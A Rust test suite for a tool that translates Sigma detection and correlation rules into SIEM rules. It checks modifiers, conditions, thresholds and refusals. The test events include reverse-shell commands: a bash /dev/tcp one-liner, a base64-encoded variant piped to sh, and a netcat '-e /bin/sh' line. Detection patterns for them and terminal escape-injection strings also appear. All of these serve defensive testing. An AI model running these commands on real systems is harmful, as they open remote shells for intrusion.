//! The translation of Sigma detections and correlations: one test per
//! modifier and per condition form (evaluated on in-memory events), and the
//! refusals.

use std::collections::BTreeMap;

use super::detection;
use super::*;
use crate::rules::expr::Fields;

fn mapping() -> Mapping {
    Mapping::load(&siemstress_common::config::Config::default()).expect("shipped mapping")
}

/// An event: columns, and extra keys as `extra.KEY`.
struct Ev(BTreeMap<String, String>);

impl Fields for Ev {
    fn column(&self, name: &str) -> Option<&str> {
        self.0.get(name).map(String::as_str)
    }
    fn extra(&self, key: &str) -> Option<String> {
        self.0.get(&format!("extra.{key}")).cloned()
    }
}

fn ev(fields: &[(&str, &str)]) -> Ev {
    Ev(fields
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect())
}

/// The detection (YAML under `detection:`) compiled.
fn det(yaml: &str) -> Result<crate::rules::expr::Expr, String> {
    let docs = parse::documents(yaml).expect("yaml");
    let a = detection::compile(&docs[0], &mapping())?;
    // The text form reads back as the same expression.
    let again = Ast::parse(&a.to_string()).expect("text form parses");
    assert_eq!(again.to_string(), a.to_string());
    a.compile()
}

/// True if `event` matches the detection.
fn hit(yaml: &str, event: &[(&str, &str)]) -> bool {
    det(yaml)
        .unwrap_or_else(|e| panic!("{yaml}: {e}"))
        .eval(&ev(event))
}

#[test]
fn equals_is_case_insensitive_and_cased_is_not() {
    let y = "sel:\n  User: Alice\ncondition: sel\n";
    assert!(hit(y, &[("user", "alice")]));
    assert!(hit(y, &[("user", "ALICE")]));
    assert!(!hit(y, &[("user", "alice2")]));
    assert!(!hit(y, &[]));
    let y = "sel:\n  User|cased: Alice\ncondition: sel\n";
    assert!(hit(y, &[("user", "Alice")]));
    assert!(!hit(y, &[("user", "alice")]));
}

#[test]
fn wildcards_and_escapes() {
    let y = "sel:\n  User: 'a*c?e'\ncondition: sel\n";
    assert!(hit(y, &[("user", "abbbcde")]));
    assert!(hit(y, &[("user", "ACxE")]));
    assert!(!hit(y, &[("user", "acde_")]));
    let y = "sel:\n  User: 'a\\*b\\?c\\\\d\\e'\ncondition: sel\n";
    assert!(hit(y, &[("user", "a*b?c\\d\\e")]));
    assert!(!hit(y, &[("user", "axxbxc\\d\\e")]));
}

#[test]
fn contains_startswith_endswith() {
    let c = "sel:\n  CommandLine|contains: '/dev/tcp/'\ncondition: sel\n";
    assert!(hit(
        c,
        &[("extra.command", "bash -i >& /DEV/TCP/1.2.3.4/1 0>&1")]
    ));
    assert!(!hit(c, &[("extra.command", "bash")]));
    let s = "sel:\n  CommandLine|startswith: 'curl'\ncondition: sel\n";
    assert!(hit(s, &[("extra.command", "curl x")]));
    assert!(!hit(s, &[("extra.command", "x curl")]));
    let e = "sel:\n  CommandLine|endswith: '.sh'\ncondition: sel\n";
    assert!(hit(e, &[("extra.command", "run x.SH")]));
    assert!(!hit(e, &[("extra.command", "x.sh now")]));
    // Wildcards inside a contains value.
    let w = "sel:\n  CommandLine|contains: 'nc*-e'\ncondition: sel\n";
    assert!(hit(w, &[("extra.command", "x nc 1.2.3.4 -e /bin/sh")]));
}

#[test]
fn lists_or_and_all() {
    let y = "sel:\n  User:\n    - alice\n    - bob\ncondition: sel\n";
    assert!(hit(y, &[("user", "bob")]));
    assert!(!hit(y, &[("user", "carol")]));
    let y = "sel:\n  CommandLine|contains|all:\n    - python\n    - socket\ncondition: sel\n";
    assert!(hit(y, &[("extra.command", "python -c 'import socket'")]));
    assert!(!hit(y, &[("extra.command", "python -c 1")]));
    // A map ANDs its fields; a list of maps ORs them.
    let y = "sel:\n  - User: a\n    SourceIp: 1.2.3.4\n  - User: b\ncondition: sel\n";
    assert!(hit(y, &[("user", "a"), ("source_host", "1.2.3.4")]));
    assert!(!hit(y, &[("user", "a"), ("source_host", "1.2.3.5")]));
    assert!(hit(y, &[("user", "b")]));
}

#[test]
fn re_and_its_flags() {
    let y = "sel:\n  Message|re: '^Failed \\w+ for'\ncondition: sel\n";
    assert!(hit(y, &[("message", "Failed password for x")]));
    // re is case-sensitive unless i.
    assert!(!hit(y, &[("message", "failed password for x")]));
    let y = "sel:\n  Message|re|i: '^failed'\ncondition: sel\n";
    assert!(hit(y, &[("message", "FAILED")]));
    let y = "sel:\n  Message|re|m: '^two$'\ncondition: sel\n";
    assert!(hit(y, &[("message", "one\ntwo\nthree")]));
    let y = "sel:\n  Message|re: '^two$'\ncondition: sel\n";
    assert!(!hit(y, &[("message", "one\ntwo\nthree")]));
    let y = "sel:\n  Message|re|s: 'one.two'\ncondition: sel\n";
    assert!(hit(y, &[("message", "one\ntwo")]));
    let y = "sel:\n  Message|re: 'one.two'\ncondition: sel\n";
    assert!(!hit(y, &[("message", "one\ntwo")]));
    // PCRE features the Rust regex crate lacks are refused, not mis-read.
    let y = "sel:\n  Message|re: '(?<=a)b'\ncondition: sel\n";
    assert!(det(y).unwrap_err().contains("regex"));
}

#[test]
fn cidr() {
    let y = "sel:\n  SourceIp|cidr:\n    - 10.0.0.0/8\n    - '2001:db8::/32'\ncondition: sel\n";
    assert!(hit(y, &[("source_host", "10.200.1.1")]));
    assert!(hit(y, &[("source_host", "2001:db8::7")]));
    assert!(!hit(y, &[("source_host", "11.0.0.1")]));
    assert!(!hit(y, &[("source_host", "not-an-ip")]));
}

#[test]
fn base64_base64offset_windash() {
    let y = "sel:\n  CommandLine|base64: 'id'\ncondition: sel\n";
    assert!(hit(y, &[("extra.command", "aWQ=")]));
    assert!(!hit(y, &[("extra.command", "echo aWQ= | base64 -d")]));
    let y = "sel:\n  CommandLine|base64|contains: 'id'\ncondition: sel\n";
    assert!(hit(y, &[("extra.command", "echo aWQ= | base64 -d")]));
    let y = "sel:\n  CommandLine|base64offset|contains: 'bash -i'\ncondition: sel\n";
    let b64 = base64::engine::general_purpose::STANDARD;
    use base64::Engine;
    for prefix in ["", "x", "xy"] {
        let enc = b64.encode(format!("{prefix}bash -i >& /dev/tcp/1.2.3.4/1 0>&1"));
        assert!(
            hit(
                y,
                &[("extra.command", &format!("echo {enc} | base64 -d | sh"))]
            ),
            "{prefix}"
        );
    }
    assert!(!hit(y, &[("extra.command", "echo aWQ= | base64 -d")]));
    let y = "sel:\n  CommandLine|windash|contains: ' -enc '\ncondition: sel\n";
    assert!(hit(y, &[("extra.command", "powershell -enc AAA")]));
    assert!(hit(y, &[("extra.command", "powershell /enc AAA")]));
    assert!(hit(y, &[("extra.command", "powershell \u{2013}enc AAA")]));
    assert!(!hit(y, &[("extra.command", "powershell enc AAA")]));
}

#[test]
fn exists_and_null() {
    let y = "sel:\n  CommandLine|exists: true\ncondition: sel\n";
    assert!(hit(y, &[("extra.command", "")]));
    assert!(!hit(y, &[]));
    let y = "sel:\n  CommandLine|exists: false\ncondition: sel\n";
    assert!(hit(y, &[]));
    let y = "sel:\n  User: null\ncondition: sel\n";
    assert!(hit(y, &[]));
    assert!(!hit(y, &[("user", "a")]));
    let y = "sel:\n  User: ''\ncondition: sel\n";
    assert!(hit(y, &[("user", "")]));
    assert!(!hit(y, &[("user", "a")]));
}

#[test]
fn numeric_comparisons() {
    for (m, yes, no) in [
        ("gt", "1025", "1024"),
        ("gte", "1024", "1023"),
        ("lt", "1023", "1024"),
        ("lte", "1024", "1025"),
    ] {
        let y = format!("sel:\n  DestinationPort|{m}: 1024\ncondition: sel\n");
        assert!(hit(&y, &[("dest_port", yes)]), "{m} {yes}");
        assert!(!hit(&y, &[("dest_port", no)]), "{m} {no}");
        assert!(!hit(&y, &[("dest_port", "x")]), "{m} not a number");
    }
    // A plain number is an equality.
    assert!(hit(
        "sel:\n  DestinationPort: 22\ncondition: sel\n",
        &[("dest_port", "22")]
    ));
}

#[test]
fn fieldref() {
    let y = "sel:\n  User|fieldref: TargetUserName\ncondition: sel\n";
    assert!(hit(y, &[("user", "Root"), ("extra.target_user", "root")]));
    assert!(!hit(y, &[("user", "alice"), ("extra.target_user", "root")]));
    assert!(!hit(y, &[("user", "alice")]));
    let y = "sel:\n  User|fieldref|cased: TargetUserName\ncondition: sel\n";
    assert!(!hit(y, &[("user", "Root"), ("extra.target_user", "root")]));
}

#[test]
fn keywords_match_the_raw_line() {
    let y = "keywords:\n  - 'new user: name='\n  - 'delete user *'\ncondition: keywords\n";
    assert!(hit(y, &[("raw", "Jan 1 h useradd[1]: NEW USER: name=eve")]));
    assert!(hit(y, &[("raw", "userdel[1]: delete user 'eve'")]));
    assert!(!hit(y, &[("raw", "something else")]));
}

#[test]
fn condition_forms() {
    let base = "sel_a:\n  User: a\nsel_b:\n  SourceIp: 1.1.1.1\n_hidden:\n  Hostname: h\n";
    let c = |cond: &str, e: &[(&str, &str)]| hit(&format!("{base}condition: {cond}\n"), e);
    let a = [("user", "a")];
    let ab = [("user", "a"), ("source_host", "1.1.1.1")];
    let abh = [("user", "a"), ("source_host", "1.1.1.1"), ("host", "h")];
    assert!(c("sel_a and sel_b", &ab) && !c("sel_a and sel_b", &a));
    assert!(c("sel_a or sel_b", &a) && !c("sel_a or sel_b", &[]));
    assert!(c("sel_a and not sel_b", &a) && !c("sel_a and not sel_b", &ab));
    assert!(c("not (sel_a and sel_b)", &a) && !c("not (sel_a and sel_b)", &ab));
    // not binds tighter than and, and than or.
    assert!(c("not sel_b and sel_a or _hidden", &a));
    assert!(c("1 of sel_*", &a) && !c("1 of sel_*", &[]));
    assert!(c("all of sel_*", &ab) && !c("all of sel_*", &a));
    assert!(c("1 of them", &a));
    // `them` leaves out identifiers that start with _.
    assert!(c("all of them", &ab));
    assert!(c("all of them and _hidden", &abh) && !c("all of them and _hidden", &ab));
}

#[test]
fn unsupported_is_refused_with_the_reason() {
    let refused = |y: &str| det(y).unwrap_err();
    assert!(refused("sel:\n  User|expand: '%x%'\ncondition: sel\n").contains("modifier expand"));
    assert!(refused("sel:\n  User|utf16le|base64: x\ncondition: sel\n").contains("utf16le"));
    assert!(refused("sel:\n  EventID: 4625\ncondition: sel\n").contains("EventID is not mapped"));
    assert!(
        refused("sel:\n  User: a\ncondition: sel | count() by SourceIp > 5\n").contains("pipe")
    );
    assert!(refused("sel:\n  User: a\ntimeframe: 5m\ncondition: sel\n").contains("timeframe"));
    assert!(refused("sel:\n  User: a\ncondition: 2 of sel*\n").contains("1 of and all of"));
    assert!(refused("sel:\n  User: a\ncondition: nope\n").contains("no search identifier nope"));
    assert!(refused("sel:\n  User|contains|startswith: a\ncondition: sel\n").contains("combined"));
}

const FAILED: &str = "title: failed\nname: failed\nlogsource:\n  product: linux\n  service: sshd\n\
                      detection:\n  sel:\n    Message|startswith: 'Failed password'\n  condition: sel\n";

fn corr(body: &str) -> Vec<Outcome> {
    translate(
        &format!("title: c\nid: c-1\ncorrelation:\n{body}\n---\n{FAILED}"),
        &mapping(),
    )
}

#[test]
fn correlation_conditions_become_thresholds() {
    let one = |body: &str| {
        let out = corr(body);
        assert_eq!(out.len(), 1, "{out:?}");
        out[0].clone().unwrap_or_else(|r| panic!("{r}")).toml
    };
    let t = one(
        "  type: event_count\n  rules: [failed]\n  group-by: [SourceIp]\n  timespan: 1m\n  condition:\n    gt: 4",
    );
    assert!(
        t.contains("threshold = 5\n") && t.contains("key = \"{source_host}\""),
        "{t}"
    );
    assert!(t.contains("table = \"auth\""), "{t}");
    let t = one(
        "  type: event_count\n  rules: [failed]\n  group-by: [SourceIp]\n  timespan: 1m\n  condition:\n    gt: 4\n    lte: 10",
    );
    assert!(t.contains("threshold = \"> 4, <= 10\""), "{t}");
    let t = one(
        "  type: value_count\n  rules: [failed]\n  group-by: [SourceIp]\n  timespan: 1m\n  condition:\n    field: User\n    gte: 3",
    );
    assert!(
        t.contains("distinct = \"user\"") && t.contains("threshold = 3\n"),
        "{t}"
    );
    let t = one(
        "  type: value_avg\n  rules: [failed]\n  group-by: [SourceIp]\n  timespan: 1m\n  condition:\n    field: Bytes\n    gte: 3",
    );
    assert!(
        t.contains("avg = \"extra.bytes\"") && t.contains("threshold = \">= 3\""),
        "{t}"
    );
    let t = one(
        "  type: value_percentile\n  rules: [failed]\n  group-by: [SourceIp]\n  timespan: 1m\n  condition:\n    field: Bytes\n    percentile: 95\n    gt: 3",
    );
    assert!(
        t.contains("percentile = \"extra.bytes\"") && t.contains("percent = 95.0"),
        "{t}"
    );
    let t = one(
        "  type: value_median\n  rules: [failed]\n  group-by: [SourceIp]\n  timespan: 1m\n  condition:\n    field: Bytes\n    lt: 3",
    );
    assert!(
        t.contains("percent = 50.0") && t.contains("threshold = \"< 3\""),
        "{t}"
    );
    // generate: true runs the referenced rule on its own too.
    let out = corr(
        "  type: event_count\n  rules: [failed]\n  group-by: [SourceIp]\n  timespan: 1m\n  condition:\n    gte: 2\ngenerate: true",
    );
    assert_eq!(out.len(), 2);
}

#[test]
fn correlation_refusals() {
    let reason = |body: &str| {
        corr(body)
            .into_iter()
            .find_map(Result::err)
            .map(|r| r.reason)
            .unwrap_or_else(|| panic!("not refused: {body}"))
    };
    assert!(reason("  type: event_count\n  rules: [other]\n  group-by: [SourceIp]\n  timespan: 1m\n  condition:\n    gte: 2").contains("not a detection rule of this file"));
    assert!(reason("  type: value_percentile\n  rules: [failed]\n  group-by: [SourceIp]\n  timespan: 1m\n  condition:\n    field: Bytes\n    gte: 2").contains("percentile"));
    assert!(reason("  type: value_count\n  rules: [failed]\n  group-by: [SourceIp]\n  timespan: 1m\n  condition:\n    gte: 2").contains("condition.field"));
    assert!(reason("  type: event_count\n  rules: [failed]\n  group-by: [SourceIp]\n  timespan: 1 hour\n  condition:\n    gte: 2").contains("timespan"));
    assert!(
        reason("  type: temporal\n  rules: [failed]\n  group-by: [SourceIp]\n  timespan: 1m")
            .contains("two rules")
    );
    assert!(reason("  type: value_max\n  rules: [failed]\n  group-by: [SourceIp]\n  timespan: 1m\n  condition:\n    field: Bytes\n    gte: 2").contains("not supported"));
    assert!(reason("  type: event_count\n  rules: [failed]\n  group-by: [Nope]\n  timespan: 1m\n  condition:\n    gte: 2").contains("Nope is not mapped"));
}

#[test]
fn aliases_map_each_rule_to_one_column() {
    let two = "title: a\nname: a\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  sel:\n    User: x\n  condition: sel\n\
               ---\ntitle: b\nname: b\nlogsource:\n  product: linux\n  service: sudo\ndetection:\n  sel:\n    User: y\n  condition: sel\n";
    let doc = |aliases: &str| {
        format!(
            "title: t\ncorrelation:\n  type: temporal\n  rules: [a, b]\n  group-by: [who]\n  timespan: 5m\n  aliases:\n    who:\n{aliases}\n---\n{two}"
        )
    };
    let out = translate(&doc("      a: User\n      b: SubjectUserName"), &mapping());
    let t = out[0].clone().unwrap_or_else(|r| panic!("{r}")).toml;
    assert!(
        t.contains("key = \"{user}\"") && t.contains("steps = ["),
        "{t}"
    );
    let out = translate(&doc("      a: User\n      b: TargetUserName"), &mapping());
    assert!(
        out[0]
            .clone()
            .unwrap_err()
            .reason
            .contains("different columns")
    );
}

#[test]
fn rule_names_and_severities() {
    assert_eq!(
        rule_name(None, "SSH Brute Force (root)!", None),
        "ssh-brute-force-root"
    );
    assert_eq!(rule_name(Some("my_rule"), "x", None), "my_rule");
    assert_eq!(rule_name(Some("bad name"), "T", None), "t");
    assert_eq!(severity(Some("informational")), "info");
    assert_eq!(severity(None), "medium");
}

#[test]
fn rules_carry_the_line_of_their_title() {
    assert_eq!(
        doc_lines("# c\n---\nid: x\ntitle: a\n---\n\ntitle: b\n"),
        [4, 7]
    );
    assert_eq!(doc_lines("title: a\n---\nid: b\n"), [1, 3]);
    let out = corr(
        "  type: event_count\n  rules: [failed]\n  group-by: [SourceIp]\n  timespan: 1m\n  condition:\n    gte: 2\ngenerate: true",
    );
    let lines: Vec<usize> = out.iter().map(|o| o.as_ref().unwrap().line).collect();
    assert_eq!(lines, [1, 12]);
}

/// A refusal quotes the rule file's id and text: control characters in
/// them reach the terminal escaped.
#[test]
fn a_refusal_escapes_the_files_text() {
    let r = Refused {
        title: "t\u{1b}[2J".into(),
        id: Some("id\u{1b}]2;owned\u{7}".into()),
        reason: "unsupported modifier 'x\u{1b}[31m'".into(),
    };
    let shown = r.to_string();
    assert!(!shown.chars().any(|c| c.is_control()), "{shown:?}");
    assert!(shown.contains("owned"), "{shown}");
}
